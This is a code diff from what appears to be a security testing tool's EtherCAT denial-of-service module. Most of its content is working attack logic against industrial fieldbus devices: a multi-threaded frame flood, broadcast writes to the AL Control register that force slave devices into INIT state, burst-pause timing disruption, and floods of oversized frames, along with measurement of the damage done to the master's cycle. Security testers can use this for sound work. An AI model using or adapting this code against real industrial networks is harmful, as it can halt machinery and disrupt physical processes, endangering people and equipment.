+    if (count == 0 && cfg->threads > 1 && ops->open && ops->close) {
+        while (count < cfg->threads && (conns[count] = ops->open(conn, 1000)) != NULL) count++;
+        if (count < cfg->threads) kraken_result_logf(result, "  Flood: opened %d of %d conduits", count, cfg->threads);
+    }
+    if (count == 0) {
+        if (cfg->threads > 1) kraken_result_log(result, "  Flood: runner cannot open extra conduits, using one thread");
+        conns[0] = conn;
+        count = 1;
+        owned = false;
+    }
 
-    while (clock() < end) {
-        if (ops->send(conn, frame, len, 1) > 0) sent++;
+    int started = 0;
+    if (count == 1) {
+        flood_worker_init(&workers[0], conns[0], ops, rings[0], cfg, stamper, 0, 1);
+        flood_worker(&workers[0]);
+        started = 1;
+    } else {
+        flood_gate_t gate = {PTHREAD_MUTEX_INITIALIZER, PTHREAD_COND_INITIALIZER, false};
+        for (int i = 0; i < count; i++) {
+            flood_worker_init(&workers[started], conns[i], ops, rings[i], cfg, stamper, started, count);
+            workers[started].gate = &gate;
+            if (pthread_create(&tids[started], NULL, flood_worker, &workers[started]) != 0) continue;
+            workers[started].cpu = flood_pin(tids[started], started);
+            started++;
+        }
+        if (started < count) kraken_result_logf(result, "  Flood: started %d of %d threads", started, count);
+        flood_gate_open(&gate);
+        for (int i = 0; i < started; i++) pthread_join(tids[i], NULL);
+    }
+    for (int i = 0; i < count; i++) {
+        if (rings[i]) kraken_conduit_close(rings[i]);
+        else if (owned) ops->close(conns[i]);
     }
 
-    char buf[128];
-    snprintf(buf, sizeof(buf), "  Flood: sent %d frames in %dms (%.0f fps)",
-             sent, duration_ms, sent * 1000.0 / duration_ms);
-    add_log_v2(result, buf);
+    int sent = 0, unsent = 0, errors = 0;
+    if (count == 1) {
+        flood_worker_t *w = &workers[0];
+        log_pacing(result, "Flood", &w->pacer, w->sent, w->span_ns);
+        sent = w->sent;
+        unsent = w->unsent;
+        errors = w->errors;
+    } else {
+        KrakenPacer total;
+        kraken_pacer_init(&total, started > 0 ? cfg->fps / count * started : 0, cfg->burst, cfg->pattern, cfg->seed);
+        int64_t span_ns = 0;
+        for (int i = 0; i < started; i++) {
+            flood_worker_t *w = &workers[i];
+            double fps = w->span_ns > 0 ? w->sent * 1e9 / w->span_ns : 0;
+            if (w->pacer.fps > 0) {
+                kraken_result_logf(result, "  Flood thread %d (cpu %d): %d frames, %.0f fps, %d not queued, %d send errors, jitter p99 %.1fus",
+                                   i, w->cpu, w->sent, fps, w->unsent, w->errors, kraken_hist_percentile(&w->pacer.jitter, 0.99) / 1e3);
+            } else {
+                kraken_result_logf(result, "  Flood thread %d (cpu %d): %d frames, %.0f fps, %d not queued, %d send errors", i, w->cpu, w->sent, fps,
+                                   w->unsent, w->errors);
+            }
+            sent += w->sent;
+            unsent += w->unsent;
+            errors += w->errors;
+            if (w->span_ns > span_ns) span_ns = w->span_ns;
+            total.bursts += w->pacer.bursts;
+            total.slips += w->pacer.slips;
+            kraken_hist_merge(&total.jitter, &w->pacer.jitter);
+        }
+
+        char label[32];
+        snprintf(label, sizeof(label), "Flood (%d threads)", started);
+        log_pacing(result, label, &total, sent, span_ns);
+    }
+    if (unsent > 0) kraken_result_logf(result, "  Flood: %d frames not queued (TX ring or socket buffer full)", unsent);
+    if (errors > 0) kraken_result_logf(result, "  Flood: %d send errors", errors);
+
+    // Every sender repeats one frame; recording each copy would throttle the flood
+    if (kraken_pcapng_enabled(pcap)) {
+        uint8_t frame[KRAKEN_ECAT_MAX_FRAME];
+        size_t len = flood_frame(frame, cfg, stamper);
+        char comment[64];
+        for (int i = 0; i < started; i++) {
+            snprintf(comment, sizeof(comment), "Flood: frame sent %d times by thread %d", workers[i].sent, i);
+            kraken_pcapng_write_payload(pcap, frame, len, 0, KRAKEN_PCAPNG_OUT, comment);
+        }
+    }
 
+    free(conns);
+    free(rings);
+    free(workers);
+    free(tids);
     return sent;
 }
 
 // Test 2: State change attack - try to force slaves to INIT
+#define STATE_COMMANDS 50
+
 static int test_state_change(KrakenConnectionHandle conn, const KrakenConnectionOps *ops,
-                             KrakenRunResultV2 *result) {
-    uint8_t frame[64];
+                             KrakenRunResultV2 *result, const dos_config_t *cfg, dos_stamper_t *stamper, KrakenPcapng *pcap) {
     // BWR to AL Control (0x0120) with INIT state (0x01)
     uint8_t data[2] = {0x01, 0x00}; // Request INIT state
-    size_t len = build_frame(frame, 8, 0, 0x0120, data, 2, 0); // BWR
-
-    int sent = 0;
-    for (int i = 0; i < 50; i++) {
-        if (ops->send(conn, frame, len, 10) > 0) sent++;
+    KrakenEcatDatagram bwr = {.cmd = KRAKEN_ECAT_CMD_BWR, .ado = 0x0120, .data = data, .len = 2};
+
+    // Full frames of cfg->datagrams commands, plus one with the remainder
+    uint8_t full[KRAKEN_ECAT_MAX_FRAME], rest[KRAKEN_ECAT_MAX_FRAME];
+    size_t full_len = pack_frame(full, stamper, bwr, cfg->datagrams);
+    int rest_count = STATE_COMMANDS % cfg->datagrams;
+    size_t rest_len = rest_count ? pack_frame(rest, stamper, bwr, rest_count) : 0;
+
+    int frames = STATE_COMMANDS / cfg->datagrams + (rest_count ? 1 : 0);
+    KrakenBuffer *batch = frame_copies(full, full_len, (size_t)frames);
+    if (!batch) return 0;
+    if (rest_count) {
+        memcpy((uint8_t *)batch[frames - 1].data, rest, rest_len);
+        batch[frames - 1].len = rest_len;
+    }
+    stamp_batch(stamper, batch, (size_t)frames);
+    int sent = (int)kraken_send_frames(conn, ops, batch, frames, 10);
+    record_sent(pcap, batch, (size_t)sent, "State change attack");
+    free(batch);
+
+    if (cfg->datagrams > 1) {
+        kraken_result_logf(result, "  State attack: sent %d frames carrying %d BWR(AL_CTRL=INIT) commands", sent, STATE_COMMANDS);
+    } else {
+        kraken_result_logf(result, "  State attack: sent %d BWR(AL_CTRL=INIT) frames", sent);
     }
-
-    char buf[128];
-    snprintf(buf, sizeof(buf), "  State attack: sent %d BWR(AL_CTRL=INIT) frames", sent);
-    add_log_v2(result, buf);
 
     return sent;
 }
 
-// Test 3: Timing disruption - send frames with varying intervals
+// Test 3: Timing disruption - bursts of 20 frames every 5ms on average
+#define TIMING_BURST 20
+#define TIMING_BURSTS 10
+#define TIMING_GAP_MS 5
+
 static int test_timing_disruption(KrakenConnectionHandle conn, const KrakenConnectionOps *ops,
-                                  KrakenRunResultV2 *result) {
-    uint8_t frame[64];
-    uint8_t data[2] = {0};
-    size_t len = build_frame(frame, 7, 0, 0, data, 2, 0);
+                                  KrakenRunResultV2 *result, const dos_config_t *cfg, dos_stamper_t *stamper, KrakenPcapng *pcap) {
+    uint8_t frame[KRAKEN_ECAT_MAX_FRAME];
+    KrakenEcatDatagram brd = {.cmd = KRAKEN_ECAT_CMD_BRD, .len = 2};
+    size_t len = pack_frame(frame, stamper, brd, cfg->datagrams);
+    KrakenBuffer *batch = frame_copies(frame, len, TIMING_BURST);
+    if (!batch) return 0;
+
+    // Burst-pause pattern to disrupt cycle timing; the pauses sleep instead of spinning
+    KrakenPacer pacer;
+    kraken_pacer_init(&pacer, TIMING_BURST * 1000.0 / TIMING_GAP_MS, TIMING_BURST, cfg->pattern, cfg->seed);
+    kraken_pacer_start(&pacer);
 
     int sent = 0;
-    // Burst-pause pattern to disrupt cycle timing
-    for (int burst = 0; burst < 10; burst++) {
-        // Fast burst
-        for (int i = 0; i < 20; i++) {
-            if (ops->send(conn, frame, len, 1) > 0) sent++;
-        }
-        // Pause (busy wait ~5ms)
-        clock_t pause_end = clock() + (5 * CLOCKS_PER_SEC / 1000);
-        while (clock() < pause_end) {}
+    for (int burst = 0; burst < TIMING_BURSTS && kraken_pacer_wait(&pacer, INT64_MAX); burst++) {
+        stamp_batch(stamper, batch, TIMING_BURST);
+        size_t n = kraken_send_frames(conn, ops, batch, TIMING_BURST, 1);
+        record_sent(pcap, batch, n, "Timing disruption");
+        sent += (int)n;
     }
 
-    char buf[128];
-    snprintf(buf, sizeof(buf), "  Timing disruption: sent %d frames in burst-pause pattern", sent);
-    add_log_v2(result, buf);
+    log_pacing(result, "Timing disruption", &pacer, sent, kraken_pacer_span_ns(&pacer));
+    free(batch);
 
     return sent;
 }
 
 // Test 4: Large frame attack
 static int test_large_frames(KrakenConnectionHandle conn, const KrakenConnectionOps *ops,
-                             KrakenRunResultV2 *result) {
-    uint8_t frame[1500];
+                             KrakenRunResultV2 *result, dos_stamper_t *stamper, KrakenPcapng *pcap) {
+    uint8_t frame[KRAKEN_ECAT_MAX_FRAME];
     uint8_t data[1400];
     memset(data, 0xAA, sizeof(data));
 
-    size_t len = build_frame(frame, 7, 0, 0, data, sizeof(data), 0);
+    KrakenEcatDatagram brd = {.cmd = KRAKEN_ECAT_CMD_BRD, .index = 0x01, .data = data, .len = sizeof(data)};
+    size_t len = pack_frame(frame, stamper, brd, 1);
+    KrakenBuffer *batch = frame_copies(frame, len, 20);
+    if (!batch) return 0;
+    stamp_batch(stamper, batch, 20);
+    int sent = (int)kraken_send_frames(conn, ops, batch, 20, 50);
+    record_sent(pcap, batch, (size_t)sent, "Large frame attack");
+    free(batch);
 
-    int sent = 0;
-    for (int i = 0; i < 20; i++) {
-        if (ops->send(conn, frame, len, 50) > 0) sent++;
-    }
-
-    char buf[128];
-    snprintf(buf, sizeof(buf), "  Large frames: sent %d frames of %zu bytes", sent, len);
-    add_log_v2(result, buf);
+    kraken_result_logf(result, "  Large frames: sent %d frames of %zu bytes", sent, len);
 
     return sent;
 }
 
-KRAKEN_API int kraken_run_v2(
-    KrakenConnectionHandle conn,
-    const KrakenConnectionOps *ops,
-    const KrakenTarget *target,
-    uint32_t timeout_ms,
-    const char *params_json,
-    KrakenRunResultV2 **out_result
-) {
+static int run_dos_tests(KrakenConnectionHandle conn, const KrakenConnectionOps *ops,
+                         KrakenRunResultV2 *result, uint32_t timeout_ms, const char *params_json) {
     (void)timeout_ms;
-    (void)params_json;
 
-    KrakenRunResultV2 *result = calloc(1, sizeof(KrakenRunResultV2));
-    if (!result) return -1;
-    copy_target(&result->target, target);
+    kraken_result_log(result, "Starting EtherCAT DoS tests");
 
-    add_log_v2(result, "Starting EtherCAT DoS tests");
+    dos_config_t cfg;
+    load_config(&cfg, params_json, result);
 
     int total_sent = 0;
 
-    add_log_v2(result, "Test 1: Frame flood (500ms)");
-    total_sent += test_flood(conn, ops, result, 500);
-
-    add_log_v2(result, "Test 2: State change attack");
-    total_sent += test_state_change(conn, ops, result);
-
-    add_log_v2(result, "Test 3: Timing disruption");
-    total_sent += test_timing_disruption(conn, ops, result);
-
-    add_log_v2(result, "Test 4: Large frame attack");
-    total_sent += test_large_frames(conn, ops, result);
-
-    char summary[128];
-    snprintf(summary, sizeof(summary), "Total frames sent: %d", total_sent);
-    add_log_v2(result, summary);
+    if (cfg.datagrams > 1) kraken_result_logf(result, "Packing %d datagrams per frame", cfg.datagrams);
+
+    KrakenPcapng pcap;
+    if (kraken_pcapng_open(&pcap, &cfg.pcap, result->target.kind == KRAKEN_TARGET_KIND_ETHERCAT ? result->target.u.ethercat.iface : NULL,
+                           ECAT_ETHERTYPE) != 0)
+        kraken_result_logf(result, "Cannot record to %s (%s)", cfg.pcap.path, strerror(errno));
+    const KrakenConnectionInfo *info = ops->get_info ? ops->get_info(conn) : NULL;
+    kraken_pcapng_set_source(&pcap, info ? info->local_addr : NULL);
+
+    dos_stamper_t stamper = {(uint32_t)(dos_now_ns() >> 10) | 1, 0};
+    impact_monitor_t *impact = cfg.impact ? impact_start(conn, ops, result, &pcap, stamper.run) : NULL;
+    if (impact) kraken_result_logf(result, "Impact: capturing master cycle, %dms baseline", cfg.baseline_ms);
+    impact_enter(impact, 0, cfg.baseline_ms);
+
+    impact_enter(impact, 1, 0);
+    if (cfg.fps > 0) {
+        kraken_result_logf(result, "Test 1: Frame flood (%dms at %.0f fps, bursts of %u, %s)", cfg.duration_ms, cfg.fps, cfg.burst,
+                           cfg.pattern == KRAKEN_PACE_RANDOM ? "random" : "uniform");
+    } else {
+        kraken_result_logf(result, "Test 1: Frame flood (%dms)", cfg.duration_ms);
+    }
+    total_sent += test_flood(conn, ops, result, &cfg, &stamper, &pcap);
+    impact_enter(impact, 2, cfg.recovery_ms);
+
+    impact_enter(impact, 3, 0);
+    kraken_result_log(result, "Test 2: State change attack");
+    total_sent += test_state_change(conn, ops, result, &cfg, &stamper, &pcap);
+    impact_enter(impact, 4, cfg.recovery_ms);
+
+    impact_enter(impact, 5, 0);
+    kraken_result_log(result, "Test 3: Timing disruption");
+    total_sent += test_timing_disruption(conn, ops, result, &cfg, &stamper, &pcap);
+    impact_enter(impact, 6, cfg.recovery_ms);
+
+    impact_enter(impact, 7, 0);
+    kraken_result_log(result, "Test 4: Large frame attack");
+    total_sent += test_large_frames(conn, ops, result, &stamper, &pcap);
+    impact_enter(impact, 8, cfg.recovery_ms);
+    if (impact) impact_stop(impact);
+
+    kraken_result_logf(result, "Total frames sent: %d", total_sent);
+    if (kraken_pcapng_enabled(&pcap)) {
+        kraken_pcapng_close(&pcap);
+        char line[512];
+        kraken_pcapng_summary(&pcap, line, sizeof(line));
+        kraken_result_log(result, line);
+    }
 
     KrakenFindingV2 finding = {0};
-    finding.id = mystrdup("ecat-dos");
-    finding.module_id = mystrdup("ecat_dos");
+    finding.id = kraken_result_strdup(result, "ecat-dos");
+    finding.module_id = kraken_result_strdup(result, "ecat_dos");
     finding.success = (total_sent > 0);
-    finding.title = mystrdup("EtherCAT DoS Testing");
-    finding.severity = mystrdup("medium");
+    finding.title = kraken_result_strdup(result, "EtherCAT DoS Testing");
+    finding.severity = kraken_result_strdup(result, "medium");
 
-    snprintf(summary, sizeof(summary),
-             "DoS tests completed. Sent %d frames including floods, state changes, and timing attacks.",
-             total_sent);
-    finding.description = mystrdup(summary);
+    finding.description = kraken_result_sprintf(result,
+        "DoS tests completed. Sent %d frames including floods, state changes, and timing attacks.",
+        total_sent);
     finding.timestamp = (int64_t)time(NULL);
-    copy_target(&finding.target, target);
+    finding.target = result->target;
+
+    // With a measured master cycle, severity reflects the observed degradation
+    if (impact && impact_report(impact, result, &finding)) {
+        finding.description = kraken_result_sprintf(result,
+            "DoS tests completed. Sent %d frames including floods, state changes, and timing attacks; "
+            "measured impact on the master cycle: %s.",
+            total_sent, finding.severity);
+    }
+    if (impact) impact_stamp_report(impact, result, &finding, total_sent);
+    impact_free(impact);
 
-    add_finding_v2(result, &finding);
+    kraken_result_add_finding(result, &finding);
 
-    *out_result = result;
     return 0;
 }
 
+KRAKEN_API int kraken_run_v2(
+    KrakenConnectionHandle conn,
+    const KrakenConnectionOps *ops,
+    const KrakenTarget *target,
+    uint32_t timeout_ms,
+    const char *params_json,
+    KrakenRunResultV2 **out_result
+) {
+    return kraken_result_run_v2(run_dos_tests, conn, ops, target, timeout_ms, params_json, out_result);
+}
+
+KRAKEN_API int kraken_run_v3(
+    KrakenConnectionHandle conn,
+    const KrakenConnectionOps *ops,
+    const KrakenTarget *target,
+    uint32_t timeout_ms,
+    const char *params_json,
+    const KrakenResultSink *sink
+) {
+    return kraken_result_run_v3(run_dos_tests, conn, ops, target, timeout_ms, params_json, sink);
+}
+
 KRAKEN_API void kraken_free_v2(void *p) {
-    if (!p) return;
-    KrakenRunResultV2 *r = (KrakenRunResultV2 *)p;
-    for (size_t i = 0; i < r->logs.count; i++)
-        free((void *)r->logs.strings[i]);
-    free((void *)r->logs.strings);
-    for (size_t i = 0; i < r->findings_count; i++) {
-        KrakenFindingV2 *f = &r->findings[i];
-        free((void *)f->id);
-        free((void *)f->module_id);
-        free((void *)f->title);
-        free((void *)f->severity);
-        free((void *)f->description);
-        free_target(&f->target);
-    }
-    free(r->findings);
-    free_target(&r->target);
-    free(r);
+    kraken_result_free(p);
 }